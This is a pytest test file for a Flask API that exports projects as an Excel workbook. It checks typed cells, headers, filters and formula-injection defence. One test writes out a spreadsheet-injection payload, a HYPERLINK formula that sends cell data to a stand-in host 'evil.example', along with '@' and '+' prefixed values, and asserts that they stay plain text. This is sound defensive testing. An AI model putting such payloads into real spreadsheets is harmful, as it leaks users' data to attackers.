"""GET /projects as an Excel workbook: typed cells, text that never runs as a formula."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from typing import Any

from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import Account
from tests.exports.sheets import XLSX, csv_rows, xlsx_rows, xlsx_sheet
from tests.settings_helpers import replace_settings


def _get(client: FlaskClient, account: Account, query: str = "") -> Any:
    return client.get(f"/api/v1/projects?{query}", headers={**account.headers, "Accept": XLSX})


def test_workbook_has_a_frozen_bold_header_and_typed_cells(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    response = _get(client, coordinator)
    today = dt.datetime.now(dt.UTC).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="projects-{today}.xlsx"'
    )
    assert int(response.headers["Content-Length"]) == len(response.get_data())
    sheet = xlsx_sheet(response)
    assert sheet.title == "Projects"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["B"].width == 50  # title
    assert sheet.auto_filter.ref == f"A1:W{len(corpus) + 1}"
    rows = {r["code"].value: r for r in xlsx_rows(sheet)}
    assert set(rows) == {p["code"] for p in corpus.values()}

    ccp = rows[corpus["ccp"]["code"]]
    assert ccp["donors"].value == "jp-mofa; gb-fcdo"
    assert ccp["donor_names"].value.startswith("Ministry of Foreign Affairs of Japan; ")
    assert ccp["start_date"].is_date and ccp["start_date"].value == dt.datetime(2026, 1, 1)
    assert ccp["start_date"].number_format == "yyyy-mm-dd"
    assert ccp["end_date"].value is None
    assert ccp["budget_amount"].data_type == "n"
    assert ccp["budget_amount"].value == 2000000
    assert ccp["budget_amount"].number_format == "#,##0.00"
    created = dt.datetime.fromisoformat(corpus["ccp"]["created_at"])
    assert ccp["created_at"].is_date
    assert abs(ccp["created_at"].value - created.replace(tzinfo=None)) < dt.timedelta(seconds=1)

    treat = rows[corpus["treat"]["code"]]
    assert Decimal(str(treat["budget_amount"].value)) == Decimal("300000.50")
    ru = rows[corpus["ru"]["code"]]
    assert ru["title"].value == "Профилактика наркомании среди молодёжи"
    assert ru["description"].value.endswith("Вторая строка, с запятой.")


def test_same_rows_and_order_as_the_csv(
    app: Flask, client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    replace_settings(app, export_chunk_size=1)
    query = "sort=title&theme=border-control,demand-reduction"
    in_csv = [r["code"] for r in csv_rows(client.get(
        f"/api/v1/projects?format=csv&{query}", headers=coordinator.headers
    ))]  # fmt: skip
    in_xlsx = [r["code"].value for r in xlsx_rows(xlsx_sheet(_get(client, coordinator, query)))]
    assert in_xlsx == in_csv and len(in_csv) == 4


def test_formula_stays_text(client: FlaskClient, coordinator: Account, register: Any) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    register(title=title, description="@SUM(A1:A9) and more", contact={"name": "+Ivanov"})
    (row,) = xlsx_rows(xlsx_sheet(_get(client, coordinator, "format=xlsx")))
    # Read back as a string, unchanged, never a formula; flagged so Excel keeps it text on edit.
    assert row["title"].data_type == "s" and row["title"].value == title
    assert row["title"].quotePrefix
    assert row["description"].data_type == "s" and row["description"].quotePrefix
    assert row["contact_name"].value == "+Ivanov" and row["contact_name"].quotePrefix
    assert not row["code"].quotePrefix


def test_control_characters_are_dropped_not_fatal(
    client: FlaskClient, coordinator: Account, register: Any
) -> None:
    # The description field refuses NUL only; XML 1.0 (and openpyxl) refuse every C0 control.
    register(description="Bell\x07 and escape\x1b inside;\ttab and\nnewline kept")
    (row,) = xlsx_rows(xlsx_sheet(_get(client, coordinator)))
    assert row["description"].value == "Bell and escape inside;\ttab and\nnewline kept"
    (in_csv,) = csv_rows(client.get("/api/v1/projects?format=csv", headers=coordinator.headers))
    assert in_csv["description"] == "Bell\x07 and escape\x1b inside;\ttab and\nnewline kept"


def test_filters_and_withdrawn_apply(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    rows = xlsx_rows(xlsx_sheet(_get(client, coordinator, "country=KZ,KG&status=pipeline")))
    assert [r["code"].value for r in rows] == [corpus["ru"]["code"]]
    gone = corpus["ru"]
    client.delete(
        f"/api/v1/projects/{gone['id']}", headers={**coordinator.headers, "If-Match": gone["_etag"]}
    )
    rows = xlsx_rows(xlsx_sheet(_get(client, coordinator, "withdrawn=true")))
    assert [r["code"].value for r in rows] == [gone["code"]]
    assert rows[0]["withdrawn_at"].is_date
    assert len(xlsx_rows(xlsx_sheet(_get(client, coordinator)))) == len(corpus) - 1


def test_no_match_is_a_header_only_workbook(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    sheet = xlsx_sheet(_get(client, coordinator, "q=nothingmatchesthis"))
    assert sheet.max_row == 1 and sheet["A1"].value == "code"
